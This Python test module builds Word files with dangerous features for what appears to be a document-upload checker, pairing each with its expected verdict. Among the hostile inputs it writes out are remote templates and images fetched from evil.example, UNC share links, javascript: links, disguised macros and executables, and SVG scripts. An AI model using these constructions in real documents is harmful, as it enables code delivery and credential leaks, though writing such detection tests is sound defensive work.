"""Word files that would run, fetch or start something, each with what becomes of it."""

from __future__ import annotations

import io
from collections.abc import Callable, Mapping
from functools import cache, partial

from forum.papers.papers import Remark
from tests.tasks.documents.office.blank_word import blank_word
from tests.tasks.documents.office.office_parts import (
    MICROSOFT,
    TYPES,
    part_of,
    related,
    replaced,
    with_parts,
)

Case = tuple[Callable[[], bytes], Remark | str]
DOCUMENT, SETTINGS = "word/document.xml", "word/settings.xml"
RELATIONS = "word/_rels/document.xml.rels"
WORDS = "What the group is asked"
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600)
BIN = "application/vnd.openxmlformats-officedocument.oleObject"
VBA = "application/vnd.ms-office.vbaProject"
MAIN = b"wordprocessingml.document.main+xml"
R = b'xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"'
_VML = b'xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="urn:schemas-microsoft-com:office:office" ' + R
MACROS, DDE = "has macros, which are never accepted", "starts another program (DDE)"
TEXT, CONTROLS = "another file inside that becomes part of its text", "controls that run programs (ActiveX)"


@cache
def word() -> bytes:
    document = blank_word()
    document.add_paragraph(WORDS)
    document.sections[0].header.paragraphs[0].text = "Header"
    document.sections[0].footer.paragraphs[0].text = "Footer"
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def having(xml: bytes, content: bytes | None = None, part: str = DOCUMENT) -> bytes:
    """The file with this behind the last paragraph of a part."""
    at = {DOCUMENT: b"<w:sectPr", "word/header1.xml": b"</w:hdr>", "word/footer1.xml": b"</w:ftr>"}[part]
    return replaced(content or word(), part, at, xml + at)


def linked(kind: str, xml: bytes = b"", target: str = "https://evil.example/x") -> bytes:
    content = having(b"<w:p><w:r>" + xml + b"</w:r></w:p>") if xml else word()
    return related(content, DOCUMENT, kind, target)


def held(kind: str, target: str, content_type: str, part: bytes = OLE, xml: bytes = b"") -> bytes:
    content = having(b"<w:p><w:r>" + xml + b"</w:r></w:p>") if xml else word()
    return related(content, DOCUMENT, kind, target, part=part, content_type=content_type)


def template(part: str, target: str = "https://evil.example/t.dotm") -> bytes:
    """A remote template by a settings part of this name."""
    settings = part_of(word(), SETTINGS).replace(
        b"<w:zoom", b'<w:attachedTemplate %s r:id="rId9"/><w:zoom' % R, 1
    )
    relations = part_of(word(), "word/_rels/document.xml.rels").replace(b"settings.xml", part.encode())
    types = part_of(word(), TYPES).replace(b"/word/settings.xml", f"/word/{part}".encode())
    content = with_parts(
        word(), {"word/_rels/document.xml.rels": relations, f"word/{part}": settings, TYPES: types}
    )
    return related(content, f"word/{part}", "attachedTemplate", target, id="rId9")


def in_settings(xml: bytes, kind: str = "", target: str = "file:///C:/Users/jane/list.csv") -> bytes:
    content = replaced(word(), SETTINGS, b"<w:zoom", xml + b"<w:zoom")
    return related(content, SETTINGS, kind, target) if kind else content


def retyped(name: bytes) -> bytes:
    return replaced(word(), TYPES, b"openxmlformats-officedocument." + MAIN, name)


def chunk(target: str, content_type: str, *, external: bool = False) -> bytes:
    content = having(b'<w:altChunk %s r:id="rId99"/>' % R)
    return related(
        content, DOCUMENT, "aFChunk", target, part=None if external else b"<html/>", content_type=content_type
    )


def drawing(inner: bytes, before: bytes = b"") -> bytes:
    """The file with a vector drawing that has this in it."""
    svg = before + b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>' % inner
    return held("image", "media/a.svg", "image/svg+xml", svg)


_BLIP = (
    b'<w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" %s '
    b'r:link="rId99"/></w:drawing>' % R
)
_OBJECT = (
    b'<w:object><v:shape %s id="s" style="width:9pt"><v:textbox/></v:shape><o:OLEObject '
    b'xmlns:o="urn:schemas-microsoft-com:office:office" Type="%%s" r:id="rId99" %s/></w:object>' % (_VML, R)
)
_LINK = b'<w:hyperlink %s r:id="rId99"><w:r><w:t>shown</w:t></w:r></w:hyperlink>' % R
_IMAGE = b"<w:pict><v:shape %s><v:imagedata %%s/></v:shape></w:pict>" % _VML

WORD: Mapping[str, Case] = {
    # A template, and whatever else its settings fetch
    "a remote template": (partial(template, "settings.xml"), Remark.LINKED),
    "a remote template by another settings part": (partial(template, "settings2.xml"), Remark.LINKED),
    "a remote template by a part of any name": (partial(template, "media/x.xml"), Remark.LINKED),
    "a remote template on a server's folder": (
        partial(template, "settings2.xml", r"file:///\\evil.example\share\t.dotm"),
        Remark.LINKED,
    ),
    "a mail merge": (
        lambda: in_settings(
            b'<w:mailMerge><w:query w:val="SELECT"/><w:dataSource %s r:id="rId99"/></w:mailMerge>' % R,
            "mailMergeSource",
        ),
        Remark.LINKED,
    ),
    "a transform": (
        lambda: in_settings(
            b'<w:saveThroughXslt %s r:id="rId99"/>' % R, "transform", "https://evil.example/x.xsl"
        ),
        Remark.LINKED,
    ),
    "frames": (
        lambda: related(
            replaced(
                word(),
                "word/webSettings.xml",
                b"</w:webSettings>",
                b'<w:frameset><w:frame><w:sourceFileName %s r:id="rId99"/></w:frame></w:frameset>'
                b"</w:webSettings>" % R,
            ),
            "word/webSettings.xml",
            "frame",
            "https://evil.example/x",
        ),
        Remark.LINKED,
    ),
    "a subdocument": (lambda: linked("subDocument", b'<w:subDoc %s r:id="rId99"/>' % R), Remark.LINKED),
    # Pictures and media from elsewhere
    "a linked picture": (lambda: linked("image", _BLIP), Remark.LINKED),
    "a linked picture on a share": (lambda: linked("image", _BLIP, r"\\evil.example\a.png"), Remark.LINKED),
    "a linked picture in the header": (
        lambda: related(
            having(b"<w:p><w:r>" + _BLIP + b"</w:r></w:p>", part="word/header1.xml"),
            "word/header1.xml",
            "image",
            "https://evil.example/a.png",
        ),
        Remark.LINKED,
    ),
    "a picture by a hyperlink's relationship": (lambda: linked("hyperlink", _BLIP), Remark.LINKED),
    "a VML picture from elsewhere": (
        lambda: having(b"<w:p><w:r>" + _IMAGE % b'src="https://evil.example/a.png"' + b"</w:r></w:p>"),
        Remark.LINKED,
    ),
    "a VML picture linked": (lambda: linked("image", _IMAGE % b'r:href="rId99"'), Remark.LINKED),
    "a web video": (
        lambda: having(
            b"<w:p><w:r><w:drawing><wp15:webVideoPr "
            b'xmlns:wp15="http://schemas.microsoft.com/office/word/2012/'
            b'wordprocessingDrawing" embeddedHtml="&lt;iframe&gt;"/></w:drawing></w:r></w:p>'
        ),
        Remark.LINKED,
    ),
    "an unknown thing from elsewhere": (
        lambda: linked(f"{MICROSOFT}2031/relationships/newThing"),
        Remark.LINKED,
    ),
    # Objects of other programs
    "a linked object": (lambda: linked("oleObject", _OBJECT % b"Link"), Remark.LINKED),
    "an object": (lambda: held("oleObject", "embeddings/o.bin", BIN, xml=_OBJECT % b"Embed"), Remark.OBJECTS),
    "an object outside embeddings": (
        lambda: held("oleObject", "media/o.png", "image/png", xml=_OBJECT % b"Embed"),
        Remark.OBJECTS,
    ),
    "an object as a package": (lambda: held("package", "theme/p.xml", "application/zip"), Remark.OBJECTS),
    "a program as a picture": (
        lambda: held("image", "media/a.png", "image/png", b"MZ" + bytes(60)),
        Remark.UNKNOWN,
    ),
    "an object as a picture": (lambda: held("image", "media/a.png", "image/png"), Remark.UNKNOWN),
    "a part of no known kind": (
        lambda: held("http://evil.example/relationships/x", "x/y.xml", "application/xml", b"<x/>"),
        Remark.UNKNOWN,
    ),
    "a part of no known type": (
        lambda: held("image", "media/a.exe", "application/x-msdownload", b"x"),
        Remark.UNKNOWN,
    ),
    "an ActiveX control": (
        lambda: held("control", "activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml", b"<x/>"),
        CONTROLS,
    ),
    "an ActiveX control called a theme": (
        lambda: held("theme", "theme/t2.xml", "application/vnd.ms-office.activeX+xml", b"<x/>"),
        CONTROLS,
    ),
    "a control from elsewhere": (lambda: linked("control"), CONTROLS),
    # Macros, whatever they are called
    "macros": (lambda: held(f"{MICROSOFT}2006/relationships/vbaProject", "vbaProject.bin", VBA), MACROS),
    "macros under another name": (
        lambda: held(f"{MICROSOFT}2006/relationships/vbaProject", "media/a.png", "image/png"),
        MACROS,
    ),
    "macros by their type alone": (lambda: held("theme", "theme/theme9.bin", VBA), MACROS),
    "macros by the type of an ending": (
        lambda: with_parts(
            held("image", "a.dat", "image/png", b"\x89PNG"),
            {
                TYPES: part_of(word(), TYPES).replace(
                    b"</Types>", f'<Default Extension="DAT" ContentType="{VBA}"/></Types>'.encode()
                )
            },
        ),
        MACROS,
    ),
    "data of macros": (
        lambda: held(
            f"{MICROSOFT}2006/relationships/wordVbaData",
            "v.xml",
            "application/vnd.ms-word.vbaData+xml",
            b"<x/>",
        ),
        MACROS,
    ),
    "a file that calls itself one with macros": (
        lambda: retyped(b"ms-word.document.macroEnabled.main+xml"),
        MACROS,
    ),
    "a macro of a form field": (
        lambda: having(
            b'<w:p><w:r><w:fldChar w:fldCharType="begin"><w:ffData><w:entryMacro w:val="Run"/></w:ffData>'
            b'</w:fldChar></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
        ),
        Remark.ACTIONS,
    ),
    "keys of its own": (
        lambda: held(
            f"{MICROSOFT}2006/relationships/keyMapCustomizations",
            "customizations.xml",
            "application/vnd.ms-word.keyMapCustomizations+xml",
            b"<x/>",
        ),
        Remark.ACTIONS,
    ),
    "buttons of its own": (
        lambda: related(
            word(),
            "",
            f"{MICROSOFT}2007/relationships/ui/extensibility",
            "customUI/customUI14.xml",
            part=b'<customUI onLoad="Run"/>',
            content_type="application/xml",
        ),
        Remark.ACTIONS,
    ),
    "a web extension": (
        lambda: related(
            word(),
            "",
            f"{MICROSOFT}2011/relationships/webextensiontaskpanes",
            "word/webextensions/t.xml",
            part=b"<x/>",
            content_type="application/vnd.ms-office.webextensiontaskpanes+xml",
        ),
        Remark.ACTIONS,
    ),
    # Text from elsewhere
    "a chunk of HTML": (lambda: chunk("a.html", "text/html"), TEXT),
    "a chunk called XML": (lambda: chunk("a.xml", "application/xml"), TEXT),
    "a chunk from elsewhere": (lambda: chunk("https://evil.example/a.html", "", external=True), TEXT),
    "a chunk without relationship": (lambda: having(b"<w:altChunk/>"), TEXT),
    "a web page as a header": (lambda: held("header", "h.mht", "message/rfc822", b"MIME-Version: 1.0"), TEXT),
    # Links
    "a link to a file": (lambda: linked("hyperlink", _LINK, "file:///C:/Users/jane/x.exe"), Remark.LINKS),
    "a link to a share": (lambda: linked("hyperlink", _LINK, r"\\evil.example\share\x"), Remark.LINKS),
    "a link to a share without scheme": (
        lambda: linked("hyperlink", _LINK, "//evil.example/x"),
        Remark.LINKS,
    ),
    "a link that is a script": (lambda: linked("hyperlink", _LINK, "javascript:alert(1)"), Remark.LINKS),
    "a script with a blank inside": (
        lambda: linked("hyperlink", _LINK, "java&#10;script:alert(1)"),
        Remark.LINKS,
    ),
    "a link to a program by its scheme": (
        lambda: linked("hyperlink", _LINK, "ms-word:ofe|u|https://x"),
        Remark.LINKS,
    ),
    "a link to a file beside it": (lambda: linked("hyperlink", _LINK, "Annex.docm"), Remark.LINKS),
    "a link to a program of one letter's disk, said to be inside": (
        lambda: replaced(
            linked("hyperlink", _LINK, "c:\\windows\\calc.exe"), RELATIONS, b' TargetMode="External"', b""
        ),
        Remark.LINKS,
    ),
    "a linked picture with blanks around what says so": (
        lambda: replaced(
            linked("image", _BLIP, "evil.example/a.png"), RELATIONS, b'"External"', b'" External "'
        ),
        Remark.LINKED,
    ),
    # Pictures that are programs
    "a picture in PostScript": (
        lambda: held("image", "media/a.eps", "image/x-eps", b"%!PS-Adobe-3.0 EPSF-3.0"),
        Remark.UNKNOWN,
    ),
    "a picture in PostScript with a preview": (
        lambda: held("image", "media/a.eps", "image/x-eps", b"\xc5\xd0\xd3\xc6" + bytes(30)),
        Remark.UNKNOWN,
    ),
    "a drawing that imports a style": (
        lambda: drawing(b"<style>@import 'https://evil.example/a.css';</style>"),
        Remark.LINKED,
    ),
    "a drawing that imports a style in other letters": (
        lambda: drawing(b"<style>@\\69mport 'https://evil.example/a.css';</style>"),
        Remark.LINKED,
    ),
    "a drawing whose style fetches": (
        lambda: drawing(b'<rect style="fill: url( &quot;https://evil.example/a&quot; )"/>'),
        Remark.LINKED,
    ),
    "a drawing whose colour fetches": (
        lambda: drawing(b'<rect fill="url(https://evil.example/a#b)"/>'),
        Remark.LINKED,
    ),
    "a drawing that gets a link later": (
        lambda: drawing(b'<a><set attributeName="xlink:href" to="https://evil.example/"/></a>'),
        Remark.ACTIONS,
    ),
    "a drawing with a script": (
        lambda: held(
            "image",
            "media/a.svg",
            "image/svg+xml",
            b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"><script>x()</script></svg>',
        ),
        Remark.ACTIONS,
    ),
    "a drawing that fetches": (
        lambda: held(
            "image",
            "media/a.svg",
            "image/svg+xml",
            b'<svg xmlns="http://www.w3.org/2000/svg"><image href="https://evil.example/a.png"/></svg>',
        ),
        Remark.LINKED,
    ),
}

# What a file inside has, the file around it has.
INSIDE: Mapping[str, Case] = {
    "a file inside with macros": (
        lambda: held(
            "package", "embeddings/a.docx", "application/zip", WORD["macros under another name"][0]()
        ),
        f"A file inside the paper {MACROS}",
    ),
    "a file inside with a remote template": (
        lambda: held("package", "embeddings/a.docx", "application/zip", template("settings2.xml")),
        Remark.EMBEDDED,
    ),
    "files inside files inside files": (
        lambda: held(
            "package",
            "a.docx",
            "application/zip",
            held(
                "package", "a.docx", "application/zip", held("package", "a.docx", "application/zip", word())
            ),
        ),
        "has others inside again",
    ),
    "a broken part": (
        lambda: with_parts(word(), {SETTINGS: b"<w:settings"}),
        "is damaged, or is not written",
    ),
    "no types": (lambda: with_parts(word(), {TYPES: b"<Types/>"}), "is not a PDF, Word"),
}
